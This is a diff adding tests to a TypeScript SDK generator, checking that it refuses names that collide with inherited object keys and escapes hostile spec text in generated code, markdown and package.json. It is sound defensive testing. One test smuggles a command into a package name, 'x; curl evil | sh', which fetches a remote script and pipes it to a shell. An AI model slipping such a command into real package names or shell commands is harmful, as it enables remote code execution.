@@ -3,13 +3,16 @@ import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'n
 import { tmpdir } from 'node:os';
 import { join, sep } from 'node:path';
 import { parseCircular, parseDependencyTree } from 'dpdm';
+import ts from 'typescript';
 import { describe, expect, it } from 'vitest';
+import { parseDocument } from 'yaml';
 import { generatorSalt, openCache } from '../generator/cache.js';
 import { schemaTable } from '../generator/schema-table.js';
 import { buildIr, defaultPaths, generate, type Paths } from '../generator/generate.js';
 import type { Api } from '../generator/ir.js';
 import type { OperationId } from '../generated/src/operations.js';
-import { InvalidSpecError } from '../generator/validate.js';
+import { loadSpec } from '../generator/load.js';
+import { InvalidSpecError, locatorKindOf, parseSpec } from '../generator/validate.js';
 import { listFiles } from '../generator/write.js';
 
 const root = join(import.meta.dirname, '..');
@@ -259,6 +262,244 @@ describe('validation', () => {
         'locators.yaml:33 : widgets.nope is not an operation',
       ]);
     });
+  });
+
+  describe('names the generator cannot emit are refused, saying which and where (issue 20)', () => {
+    const areas = (edit: (yaml: string) => string) => errorsOf(broken(edit));
+
+    it('a path parameter named __proto__ (or any key every object inherits)', () => {
+      expect(
+        areas((y) =>
+          y
+            .replace(
+              'path: /app/rest/widgets/{widgetLocator}\n    pathParams: [widgetLocator]',
+              'path: /app/rest/widgets/{__proto__}\n    pathParams: [__proto__]',
+            )
+            .replace(
+              'icon{suffix}\n    pathParams: [widgetLocator, suffix]',
+              'icon{toString}\n    pathParams: [widgetLocator, toString]',
+            ),
+        ),
+      ).toEqual([
+        'areas/widgets.yaml:24 widgets.delete: path parameter "__proto__" is a key every JavaScript object inherits',
+        'areas/widgets.yaml:41 widgets.serve_icon: path parameter "toString" is a key every JavaScript object inherits',
+      ]);
+    });
+
+    it('operation and query names whose TypeScript name an object inherits, wire names with no letter or digit', () => {
+      expect(
+        areas((y) =>
+          y
+            .replace('name: delete', 'name: constructor')
+            .replace('{ name: include_all, wire: includeAll', '{ name: value_of, wire: includeAll')
+            .replace('{ name: count, wire: count,', '{ name: count, wire: "!!!",'),
+        ),
+      ).toEqual([
+        'areas/widgets.yaml:6 widgets.serve_widgets: query input value_of: its argument "valueOf" is a key every JavaScript object inherits',
+        'areas/widgets.yaml:6 widgets.serve_widgets: query input count: wire name "!!!" has no letter or digit (A-Z, a-z, 0-9)',
+        'areas/widgets.yaml:24 widgets.constructor: its function name "constructor" is a key every JavaScript object inherits',
+      ]);
+    });
+
+    it('a path, a base or a file-tree prefix that is not a URL path, and a placeholder in a prefix', () => {
+      expect(
+        areas((y) =>
+          y.replace('path: /app/rest/widgets/{widgetLocator}\n', 'path: "/app/rest/widgets/{widgetLocator} `x` | y"\n'),
+        ),
+      ).toEqual([
+        "areas/widgets.yaml:24 widgets.delete: path must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
+      ]);
+      expect(areas((y) => y.replace('base: /app/rest/widgets', 'base: "/app/rest/widgets\\n"'))).toContain(
+        "areas/widgets.yaml:4 : base must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
+      );
+      expect(
+        errorsOf(broken((y) => y.replace('{widgetLocator}/files', '{constructor}/files{!}'), 'file-tree.yaml')),
+      ).toEqual([
+        "file-tree.yaml:8 prefix /app/rest/widgets/{constructor}/files{!}: prefix must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
+        'file-tree.yaml:8 prefix /app/rest/widgets/{constructor}/files{!}: path parameter "constructor" is a key every JavaScript object inherits',
+      ]);
+    });
+
+    it('an area name that is a reserved word (it names a namespace import)', () => {
+      expect(areas((y) => y.replace('area: widgets', 'area: delete'))).toContain(
+        'areas/widgets.yaml:2 : area "delete" is a reserved word of JavaScript',
+      );
+    });
+
+    it('model properties, wire names and enum values that close a comment, break a line or have no letter', () => {
+      const errors = errorsOf(
+        broken((y) =>
+          y
+            .replace('{ name: id, type: int64', '{ name: constructor, type: int64')
+            .replace('enum: [new, used]', 'enum: [new, "a */ b"]')
+            .replace('{ name: vcs-root-id,', '{ name: "two\\nlines",')
+            .replace('wire: widgets', 'wire: "---"'),
+          'models/widgets.yaml',
+        ),
+      );
+      expect(errors).toEqual([
+        'models/widgets.yaml:8 model Widget: property constructor: name "constructor" is a key every JavaScript object inherits',
+        'models/widgets.yaml:9 model Widget: property state: enum value "a */ b" would close a comment (it holds */)',
+        'models/widgets.yaml:11 model Widget: property two\nlines: name "two\\nlines" holds a line break or a control character',
+        'models/widgets.yaml:16 model Widgets: wire name "---" has no letter or digit (A-Z, a-z, 0-9)',
+      ]);
+    });
+
+    it('locator dimensions, kinds and enum values, and a __proto__ key that zod would drop unseen', () => {
+      const locators = (edit: (yaml: string) => string) => errorsOf(broken(edit, 'locators.yaml'));
+      expect(
+        locators((y) =>
+          y
+            .replace('      name: { type: string }\n', '      constructor: { type: string }\n')
+            .replace('[new, used, any]', '[new, used, "a */"]')
+            .replace(/Shelf/g, 'ValueOf'),
+        ),
+      ).toEqual([
+        'locators.yaml:3 : enum WidgetState: value "a */" would close a comment (it holds */)',
+        'locators.yaml:5 : kind ValueOf: its name in `locator` "valueOf" is a key every JavaScript object inherits',
+        'locators.yaml:20 : kind Widget: dimension "constructor" is a key every JavaScript object inherits',
+      ]);
+      expect(
+        locators((y) =>
+          y.replace(
+            '      name: { type: string }\n',
+            '      __proto__: { type: string }\n      name: { type: string }\n',
+          ),
+        ),
+      ).toEqual(['locators.yaml:20 : kinds.Widget.dimensions.__proto__: the key __proto__ cannot name anything']);
+    });
+
+    it('reads no spec name as a key an object inherits', () => {
+      const { spec } = parseSpec(loadSpec(tiny.spec, tiny.root));
+      const inputs = spec!.locators.value.inputs;
+      for (const name of ['constructor', 'toString', '__proto__']) {
+        expect(locatorKindOf(inputs, 'widgets', 'serve_widgets', name, true, false), name).toBeUndefined();
+      }
+    });
+
+    it('a package name that is not an npm package name (it goes into shell commands and imports)', async () => {
+      const e = await generate(
+        broken((y) => y.replace('name: tiny-sdk', 'name: x; curl evil | sh'), 'package.yaml'),
+      ).catch((x: unknown) => x);
+      expect(e).toBeInstanceOf(InvalidSpecError);
+      expect((e as InvalidSpecError).message).toContain('package.yaml:1: name must be an npm package name');
+    });
+  });
+});
+
+/** A copy of the tiny spec with each file's YAML edited through yaml's Document API (it quotes what it must). */
+function tinyWith(edits: Record<string, (doc: ReturnType<typeof parseDocument>) => void>): Paths {
+  const dir = mkdtempSync(join(tmpdir(), 'tc-spec-'));
+  cpSync(tiny.spec, dir, { recursive: true });
+  for (const [file, edit] of Object.entries(edits)) {
+    const doc = parseDocument(readFileSync(join(dir, file), 'utf8'));
+    edit(doc);
+    writeFileSync(join(dir, file), String(doc));
+  }
+  return { root: dir, spec: dir, templates: tiny.templates };
+}
+
+/** What a comment-closing, tag-starting, cell-splitting, quote-breaking spec string looks like. */
+const HOSTILE = 'q */ INJECTED: typeof globalThis; /* @deprecated {@link x} | cell\nnext \' " ` ${x} \u2028 end';
+
+/** The top-level statements of a TypeScript file (kind and name), its syntax errors, and what must not be in it. */
+function readTs(text: string) {
+  const file = ts.createSourceFile('x.ts', text, ts.ScriptTarget.Latest, true);
+  const syntax = ts.transpileModule(text, { reportDiagnostics: true }).diagnostics ?? [];
+  const identifiers: string[] = [];
+  const tags: string[] = [];
+  const visit = (node: ts.Node) => {
+    if (ts.isIdentifier(node)) identifiers.push(node.text);
+    for (const tag of ts.getJSDocTags(node)) tags.push(tag.tagName.text);
+    ts.forEachChild(node, visit);
+  };
+  visit(file);
+  const statements = file.statements.map(
+    (s) => `${ts.SyntaxKind[s.kind]} ${(s as { name?: ts.Node }).name?.getText() ?? ''}`,
+  );
+  return {
+    statements,
+    syntax: syntax.map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')),
+    identifiers,
+    tags,
+  };
+}
+
+describe('spec text lands in generated files as data (issue 20)', () => {
+  const hostilePaths = tinyWith({
+    'areas/widgets.yaml': (doc) => {
+      doc.set('title', HOSTILE);
+      doc.setIn(['operations', 0, 'note'], HOSTILE);
+      doc.setIn(['operations', 0, 'query', 0, 'note'], HOSTILE);
+      doc.setIn(['operations', 0, 'query', 2, 'default'], HOSTILE);
+      doc.setIn(['operations', 1, 'returns', 'seed'], HOSTILE);
+      // URL path characters are all it may hold, `*/` among them.
+      doc.setIn(['operations', 2, 'path'], "/app/rest/widgets/{widgetLocator}*/INJECTED;(globalThis);'/*");
+    },
+    'file-tree.yaml': (doc) => doc.setIn(['prefixes', 0, 'tree'], HOSTILE),
+    'models/widgets.yaml': (doc) => {
+      doc.setIn(['models', 0, 'doc'], HOSTILE);
+      doc.setIn(['models', 0, 'note'], HOSTILE);
+      doc.setIn(['models', 0, 'properties', 0, 'doc'], HOSTILE);
+      doc.setIn(['models', 0, 'properties', 6, 'note'], HOSTILE);
+    },
+    'locators.yaml': (doc) => {
+      doc.setIn(['kinds', 'Widget', 'source'], HOSTILE);
+      doc.setIn(['kinds', 'Stamp', 'source'], HOSTILE);
+      doc.setIn(['kinds', 'Widget', 'singleValue', 'means'], HOSTILE);
+      doc.setIn(['kinds', 'Widget', 'dimensions', 'secret', 'source'], HOSTILE);
+    },
+    'examples.yaml': (doc) => doc.setIn(['operations', 'widgets.set_widget_field'], HOSTILE),
+    'package.yaml': (doc) => doc.set('description', HOSTILE),
+  });
+  // One cache for both runs: the second formats only the files the hostile text changed. Awaited in each test, so
+  // that a generation that fails fails the tests (and not their collection).
+  const cache = openCache(mkdtempSync(join(tmpdir(), 'tc-gen-cache-')), generatorSalt(join(root, 'generator')));
+  const generated = generate(tiny, { cache }).then(async (clean) => [clean, await generate(hostilePaths, { cache })] as const);
+
+  it('emits TypeScript with no injected statement, tag or syntax error', async () => {
+    const [clean, hostile] = await generated;
+    expect([...hostile.keys()].sort()).toEqual([...clean.keys()].sort());
+    // The TypeScript files the hostile text reached.
+    const reached = [...clean.keys()].filter((p) => p.endsWith('.ts') && hostile.get(p) !== clean.get(p));
+    expect(reached.sort()).toEqual([
+      'src/areas/widgets.ts',
+      'src/client.ts',
+      'src/locators.ts',
+      'src/models.ts',
+      'src/operations.ts',
+    ]);
+    for (const path of reached) {
+      expect(hostile.get(path), path).toContain('INJECTED');
+      const [before, after] = [readTs(clean.get(path)!), readTs(hostile.get(path)!)];
+      expect(after.syntax, path).toEqual([]);
+      expect(after.statements, path).toEqual(before.statements);
+      expect(after.identifiers, path).not.toContain('INJECTED');
+      expect(after.tags.sort(), path).toEqual(before.tags.sort());
+    }
+  });
+
+  it('keeps every markdown table row one row of the same cells', async () => {
+    const [clean, hostile] = await generated;
+    const rows = (text: string) =>
+      text
+        .split('\n')
+        .filter((line) => line.startsWith('|'))
+        .map((line) => line.split(/(?<!\\)\|/).length);
+    for (const path of [...clean.keys()].filter((p) => p.endsWith('.md'))) {
+      expect(rows(hostile.get(path)!), path).toEqual(rows(clean.get(path)!));
+    }
+    // The title is prose: no emphasis, link or HTML either.
+    expect(hostile.get('docs/widgets.md')!.split('\n')[0]).toBe(
+      '# q \\*/ INJECTED: typeof globalThis; /\\* @deprecated {@link x} \\| cell next \' " \\` ${x} end (`client.widgets`)',
+    );
+  });
+
+  it('writes package.json whose description is the spec text exactly', async () => {
+    const [clean, hostile] = await generated;
+    const pkg = JSON.parse(hostile.get('package.json')!) as { description: string };
+    expect(pkg.description).toBe(HOSTILE);
+    expect(Object.keys(pkg)).toEqual(Object.keys(JSON.parse(clean.get('package.json')!) as object));
   });
 });
 
